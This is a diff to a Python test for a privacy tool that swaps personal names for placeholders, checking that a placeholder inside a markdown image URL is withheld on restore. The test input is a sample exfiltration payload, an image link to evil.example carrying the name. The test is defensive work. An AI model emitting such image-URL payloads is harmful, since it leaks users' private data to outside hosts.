@@ -362,7 +362,9 @@ def test_the_python_api_and_memory_hydrate_withhold_them_and_restore_prose_and_m
 def test_memory_hydrate_withholds_them(protector, tmp_path):
     store = MemoryStore(tmp_path / "memory.sqlite", protector, embed=fake_embed)
     protector.vault.issue(protector.config.user, vault_session("ann"), [("REAL_NAME", "Marta Kowalczyk")])
-    hydrated = store.restore("ann", "![a](https://evil.example/<REAL_NAME_1>) Hi <REAL_NAME_1>")
+    # a pack that sent <REAL_NAME_1>: a reply to it may hydrate only that placeholder
+    request = protector.vault.record_request_of(protector.config.user, vault_session("ann"), {("REAL_NAME", 1)})
+    hydrated = store.restore("ann", "![a](https://evil.example/<REAL_NAME_1>) Hi <REAL_NAME_1>", request)
     assert hydrated.text == "![a](https://evil.example/<REAL_NAME_1>) Hi Marta Kowalczyk"
     assert hydrated.withheld == [("<REAL_NAME_1>", "in_loading_url")]
     store.close()
